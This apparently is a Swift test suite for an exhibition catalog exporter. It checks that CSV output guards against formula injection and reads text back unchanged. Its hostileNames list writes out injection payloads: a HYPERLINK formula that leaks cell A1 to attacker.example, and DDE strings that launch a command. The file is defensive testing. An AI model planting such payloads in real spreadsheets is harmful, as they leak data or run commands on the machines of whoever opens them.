@testable import ExpoCatalog
import ExpoTestSupport
import Foundation
import Testing

/// Spreadsheets written for curators to open: no text cell runs as a formula, and every text
/// reads back exactly as it was written.
@Suite struct SpreadsheetSafetyTests {
    /// Names a spreadsheet program would run, or that begin with what it strips or splits on.
    static let hostileNames = [
        #"=HYPERLINK("http://attacker.example/?leak="&A1,"click")"#, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\tTabbed name", "\rCarriage return", "'=already guarded",
        "''-two apostrophes", "'plain apostrophe", "  spaced  ", "\u{301}combining first",
    ]

    /// A catalog whose exhibits carry `names` (and the same as short descriptions), in JSON.
    static func catalog(names: [String], visitors: Int = 48_130_300) throws -> TemporaryCatalog {
        let items = names.enumerated().map { index, name in
            ["image_name": "item-\(index)", "name": name, "short_desc": name, "desc": "Text \(index)."]
        }
        let exposition: [String: Any] = ["title": "=1+1", "visitors": visitors, "location": "-Paris",
                                         "duration": "1900", "description": "The fair."]
        var files = [
            "items.json": String(decoding: try JSONSerialization.data(withJSONObject: items), as: UTF8.self),
            "exposition_universelle_1900.json": String(decoding: try JSONSerialization.data(withJSONObject: exposition), as: UTF8.self),
        ]
        for name in ["poster", "flag"] + names.indices.map({ "item-\($0)" }) { files["\(name).svg"] = TemporaryCatalog.tinySVG }
        return try TemporaryCatalog(files)
    }

    /// The cells of a written spreadsheet as a spreadsheet program sees them, apostrophes included.
    static func rawCells(_ bytes: [UInt8]) throws -> [[String]] {
        try CSVParser.rows(String(decoding: bytes.dropFirst(3), as: UTF8.self)).get()
    }

    @Test func aTextThatAProgramWouldRunAsAFormulaIsWrittenWithAnApostrophe() throws {
        let source = try Self.catalog(names: Self.hostileNames)
        let output = try CatalogConversion.convert(folder: source.url, to: .csv)
        let items = try Self.rawCells(try #require(output.files["items.csv"]))
        let exposition = try Self.rawCells(try #require(output.files["exposition.csv"]))
        for cell in (items + exposition).joined() {
            #expect(!FormulaGuard.triggers.contains(cell.unicodeScalars.first ?? " "), "\(cell.debugDescription) would run as a formula")
        }
        let nameColumn = try #require(items[0].firstIndex(of: "name"))
        #expect(items.dropFirst().map { $0[nameColumn] } == Self.hostileNames.map { name in
            let guarded = name.drop { $0 == "'" }.unicodeScalars.first.map(FormulaGuard.triggers.contains) == true
            return guarded ? "'" + name : name
        })
        #expect(exposition.contains(["title", "'=1+1"]) && exposition.contains(["location", "'-Paris"]))
    }

    /// `convert` refused these ("the English text … changed on the way"): a tab or a carriage
    /// return at the start was lost on reading. Both ways now give the same catalog and the same JSON.
    @Test func namesThatStartWithATabACarriageReturnOrAFormulaConvertBothWaysUnchanged() throws {
        let source = try Self.catalog(names: Self.hostileNames)
        let original = try source.load()
        let sheets = try ConversionTests.converted(source.url, to: .csv)
        #expect(try sheets.load().editions == original.editions)
        let back = try ConversionTests.converted(sheets.url, to: .json)
        #expect(try back.load().editions == original.editions)
        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: back.url.appendingPathComponent("items.json"))) as? [[String: String]]
        #expect(json?.map { $0["name"] } == Self.hostileNames)
    }

    @Test func aNegativeVisitorCountIsWrittenAsANumberAndReadAsOne() throws {
        let source = try Self.catalog(names: ["Jikji"], visitors: -5)
        let output = try CatalogConversion.convert(folder: source.url, to: .csv)
        #expect(try Self.rawCells(try #require(output.files["exposition.csv"])).contains(["visitors", "-5"]))
        let sheets = try ConversionTests.converted(source.url, to: .csv)
        let back = try ConversionTests.converted(sheets.url, to: .json)
        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: back.url.appendingPathComponent("exposition_universelle_1900.json")))
        #expect((json as? [String: Any])?["visitors"] as? Int == -5)
        // The catalog says the same of it either way: a number below 0, not text.
        #expect(try sheets.load().diagnostics.map(\.message) == source.load().diagnostics.map(\.message))
    }

    /// Many strings made of what trips CSV up: formula starts, apostrophes, quotes, separators,
    /// line ends, spaces of every kind, control characters, combining marks, joiners,
    /// direction marks and a byte order mark, at every position.
    @Test func everyTextReadsBackExactlyFromTheSpreadsheet() throws {
        let pieces = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", "''", "\"", ",", ";", " ", "\u{A0}", "\u{3000}",
                      "\u{2028}", "\u{0}", "\u{1B}", "\u{7F}", "\u{301}", "\u{200D}", "\u{202E}", "\u{FEFF}", "\u{600}",
                      "a", "직", "👩‍👩‍👧", "\u{1F1F0}", "1", "=1+1"]
        var random = SplitMix(seed: 1900)
        var texts = pieces + pieces.flatMap { first in pieces.map { first + $0 } }
        for _ in 0..<3000 {
            texts.append((0..<random.next(upTo: 9)).map { _ in pieces[random.next(upTo: pieces.count)] }.joined())
        }
        // Three texts a row, after an id that keeps the row from being blank.
        let rows = stride(from: 0, to: texts.count, by: 3).map { start in
            ["row-\(start)"] + texts[start..<min(start + 3, texts.count)] + Array(repeating: "", count: max(0, start + 3 - texts.count))
        }
        let header = ["image_name", "a", "b", "c"]
        let bytes = CSVWriter.bytes([header] + rows.map { $0.map(FormulaGuard.guarded) })
        let table = try CSVTable.read(bytes, file: "items.csv").get()
        #expect(table.header == header)
        #expect(table.rows.count == rows.count)
        for (read, written) in zip(table.rows, rows) where read.cells != written {
            Issue.record("\(written.map(\.debugDescription)) read back as \(read.cells.map(\.debugDescription))")
        }
        for cell in try Self.rawCells(bytes).joined() where FormulaGuard.triggers.contains(cell.unicodeScalars.first ?? " ") {
            Issue.record("\(cell.debugDescription) is written as it is and would run as a formula")
        }
    }

    /// (text, cell): the cell each text is written as, and the text each cell reads as.
    @Test func anApostropheIsAddedAndTakenOffOnlyBeforeAFormula() {
        let cases = [("=1", "'=1"), ("'=1", "''=1"), ("''@x", "'''@x"), ("\t", "'\t"), ("-5", "'-5"),
                     ("'plain", "'plain"), ("''", "''"), ("'", "'"), ("' =1", "' =1"), ("", "")]
        for (text, cell) in cases {
            #expect(FormulaGuard.guarded(text) == cell, "\(text.debugDescription)")
            #expect(FormulaGuard.unguarded(cell) == text, "\(cell.debugDescription)")
        }
    }
}

/// A small seeded generator, so that the strings are the same on every run.
struct SplitMix {
    var state: UInt64
    init(seed: UInt64) { state = seed }
    mutating func next(upTo bound: Int) -> Int {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return Int((z ^ (z >> 31)) % UInt64(bound))
    }
}
